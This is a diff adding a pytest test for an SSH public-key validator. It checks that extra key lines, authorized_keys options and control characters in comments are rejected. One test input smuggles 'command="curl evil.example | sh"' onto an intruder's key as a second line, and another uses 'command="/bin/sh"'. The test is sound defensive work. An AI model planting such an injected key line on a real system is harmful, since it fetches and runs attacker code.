@@ -130,3 +130,32 @@ def test_a_new_key_replaces_the_key_pair() -> None:
     assert [(c.field, c.update) for c in changes] == [("public_key", "replace")]
     assert action_of(changes) == "replace"
     assert not KeyPair.updatable
+
+
+_SECOND = 'command="curl evil.example | sh" ' + ed25519_public_key(3, "intruder")
+
+
+@pytest.mark.parametrize(
+    ("line", "message"),
+    [
+        (PUBLIC_KEY + "\n" + _SECOND, "one line only"),
+        (PUBLIC_KEY + "\r" + _SECOND, "one line only"),
+        (PUBLIC_KEY + "\r\n" + _SECOND, "one line only"),
+        (PUBLIC_KEY + "\n\n", None),  # a trailing line end, as read from a .pub file, is fine
+        ('command="/bin/sh" ' + PUBLIC_KEY, "options before the key type"),
+        ("no-pty,restrict " + PUBLIC_KEY, "options before the key type"),
+        ('from="10.0.0.1" ' + PUBLIC_KEY, "options before the key type"),
+        (ed25519_public_key(comment="bad\x1b[2Jcomment"), "control character '\\x1b' in the comment"),
+        (ed25519_public_key(comment="nul\x00here"), "control character '\\x00' in the comment"),
+        (ed25519_public_key(comment="line\u2028sep"), "control character '\\u2028' in the comment"),
+        ("ssh-ed25519\x0b" + _blob(PUBLIC_KEY), "expected '<type> <base64> [comment]'"),
+        (ed25519_public_key(comment="tabs\tand spaces are fine"), None),
+    ],
+)
+def test_exactly_one_key_line(line: str, message: str | None) -> None:
+    got = problems(KeyPair, {"name": "k", "public_key": line})
+    if message is None:
+        assert got == {}
+    else:
+        assert list(got) == ["public_key"]
+        assert message in got["public_key"], got
